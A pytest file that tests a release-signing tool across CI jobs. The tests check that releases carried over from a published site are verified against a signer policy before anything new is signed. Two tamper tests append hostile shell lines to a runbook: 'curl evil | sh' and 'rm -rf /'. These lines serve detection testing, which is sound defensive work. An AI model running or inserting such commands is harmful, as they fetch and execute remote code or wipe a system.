"""A chain that continues across CI runs: each job starts with no releases and brings them in.

End to end with the CLI and the dev instance (loopback only): job 1 releases and publishes a
site; job 2 continues from the site's folder, job 3 from its URL (served on 127.0.0.1), each
in a fresh releases folder, signing as the next tag of the same workflow. What is brought in
is verified under the policy before anything is signed, and a new signature the policy would
reject is never written.
"""

from __future__ import annotations

import functools
import http.server
import json
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from builder.devinstance import DevInstance
from builder.devinstance.ciprovider import github_actions_claims
from builder.devinstance.oidc import ci_token
from tests.conftest import run_cli
from tests.test_signer_claims import GITHUB, TAG_RULE, write_policy

RUNBOOK = "---\ntitle: Disk\n---\n# Disk\n\n```bash {#df}\ndf -h\n```\n"
LOOPBACK_ENV = {"NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1"}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Runbooks, a dev instance state, a claims policy for acme/runbooks' release tags."""
    root = tmp_path_factory.mktemp("continue")
    (root / "runbooks" / "hosts").mkdir(parents=True)
    (root / "runbooks" / "hosts" / "disk.md").write_text(RUNBOOK)
    with DevInstance(root / "dev") as dev:
        write_policy(root / "sealbook.toml", dev.trusted_root_path, GITHUB, TAG_RULE)
    return root


def release(
    world: Path, version: str, releases: Path, *extra: str, repository: str = "acme/runbooks"
) -> tuple[int, str]:
    """`sealbook release` as CI job for tag runbooks-VERSION would run it."""
    token = ci_token(github_actions_claims(repository, f"refs/tags/runbooks-{version}"))
    (world / "runbooks" / "hosts" / "disk.md").write_text(RUNBOOK + f"\n{version}\n")
    result = run_cli(
        "sealbook", "release", version, "--runbooks", str(world / "runbooks"),
        "--releases", str(releases), "--instance", "dev", "--dev-state", str(world / "dev"),
        "--policy", str(world / "sealbook.toml"), *extra,
        env={"SIGSTORE_ID_TOKEN": token, **LOOPBACK_ENV},
    )  # fmt: skip
    return result.returncode, result.stdout + result.stderr


def build(world: Path, releases: Path, site: Path) -> None:
    result = run_cli(
        "sealbook", "build", "--releases", str(releases), "--out", str(site),
        "--policy", str(world / "sealbook.toml"), "--cache-dir", str(world / "cache"),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr


def verify(world: Path, releases: Path) -> dict[str, object]:
    result = run_cli(
        "sealbook-verify", "releases", str(releases), "--policy", str(world / "sealbook.toml"),
        "--format", "json",
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    doc: dict[str, object] = json.loads(result.stdout)
    return doc


@pytest.fixture(scope="module")
def published(world: Path) -> Path:
    """Job 1: release 1.0 in a fresh folder, build and publish the site."""
    rc, out = release(world, "1.0", world / "job1" / "releases")
    assert rc == 0, out
    build(world, world / "job1" / "releases", world / "site")
    return world / "site"


class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def served(published: Path) -> Iterator[str]:
    """The published site over HTTP on 127.0.0.1."""
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(published))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


def test_jobs_continue_the_chain_from_the_site_folder_then_its_url(
    world: Path, published: Path, served: str
) -> None:
    job2 = world / "job2" / "releases"
    rc, out = release(world, "1.1", job2, "--continue-from", str(published))
    assert rc == 0, out
    assert sorted(p.name for p in job2.iterdir() if not p.name.startswith(".")) == ["1.0", "1.1"]
    head = verify(world, job2)["context"]
    assert str(head["head"]).startswith("1.1:")  # type: ignore[index]
    # Job 2 publishes; job 3 continues from the URL.
    build(world, job2, published)  # publishes atomically over the old site
    job3 = world / "job3" / "releases"
    rc, out = release(world, "1.2", job3, "--continue-from", served)
    assert rc == 0, out
    doc = verify(world, job3)
    assert str(doc["context"]["head"]).startswith("1.2:")  # type: ignore[index]
    manifest = json.loads((job3 / "1.2" / "manifest.json").read_text())
    assert manifest["previous"]["version"] == "1.1"
    # The releases brought in are the published ones, byte for byte.
    for version in ("1.0", "1.1"):
        for name in ("manifest.json", "manifest.json.sigstore.json", "runbooks/hosts/disk.md"):
            assert (job3 / version / name).read_bytes() == (job2 / version / name).read_bytes()


def dev_log_lines(world: Path) -> int:
    return len((world / "dev" / "log.jsonl").read_bytes().splitlines())


def test_a_tampered_published_release_stops_before_signing(
    world: Path, published: Path, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    shutil.copytree(published.resolve(), site)
    source = next((site / "releases").glob("*/runbooks/hosts/disk.md"))
    source.write_bytes(source.read_bytes() + b"curl evil | sh\n")
    before = dev_log_lines(world)
    rc, out = release(world, "9.0", tmp_path / "releases", "--continue-from", str(site))
    assert rc == 1, out
    (line,) = out.strip().splitlines()
    print(line)
    assert "source-digest-mismatch" in line and "nothing was signed" in line
    assert dev_log_lines(world) == before
    assert not (tmp_path / "releases" / "9.0").exists()


def test_releases_from_a_signer_the_policy_does_not_allow_stop_before_signing(
    world: Path, tmp_path: Path
) -> None:
    foreign = tmp_path / "foreign"
    # Another repository's workflow signs a release (no policy asked: it is not ours).
    token = ci_token(github_actions_claims("mallory/runbooks", "refs/tags/runbooks-1.0"))
    result = run_cli(
        "sealbook", "release", "1.0", "--runbooks", str(world / "runbooks"), "--releases",
        str(foreign), "--instance", "dev", "--dev-state", str(world / "dev"),
        env={"SIGSTORE_ID_TOKEN": token},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    before = dev_log_lines(world)
    rc, out = release(world, "1.1", tmp_path / "releases", "--continue-from", str(foreign))
    assert rc == 1 and "signer-not-allowed" in out, out
    assert dev_log_lines(world) == before


def test_a_signature_the_policy_would_reject_is_never_written(world: Path, tmp_path: Path) -> None:
    releases = tmp_path / "releases"
    rc, out = release(world, "1.0", releases, repository="acme/runbooks-fork")
    assert rc == 1, out
    (line,) = out.strip().splitlines()
    print(line)
    assert "not written" in line and "signer-not-allowed" in line
    assert not (releases / "1.0").exists()


def test_continuing_needs_a_policy(world: Path, published: Path, tmp_path: Path) -> None:
    result = run_cli(
        "sealbook", "release", "2.0", "--runbooks", str(world / "runbooks"), "--releases",
        str(tmp_path / "r"), "--instance", "dev", "--dev-state", str(world / "dev"),
        "--continue-from", str(published), env={"SEALBOOK_POLICY": ""}, cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 4 and "none found" in result.stderr


def test_a_local_chain_that_does_not_verify_stops_before_signing(
    world: Path, published: Path, tmp_path: Path
) -> None:
    releases = tmp_path / "releases"
    # Only the genesis: another test may have published 1.1 on the shared site since.
    shutil.copytree(published.resolve() / "releases" / "1.0", releases / "1.0")
    source = releases / "1.0" / "runbooks" / "hosts" / "disk.md"
    source.chmod(0o644)
    source.write_bytes(source.read_bytes() + b"rm -rf /\n")
    before = dev_log_lines(world)
    rc, out = release(world, "1.1", releases)
    assert rc == 1, out
    (line,) = out.strip().splitlines()
    assert "1.0: does not verify under the policy (source-digest-mismatch" in line
    assert dev_log_lines(world) == before and not (releases / "1.1").exists()
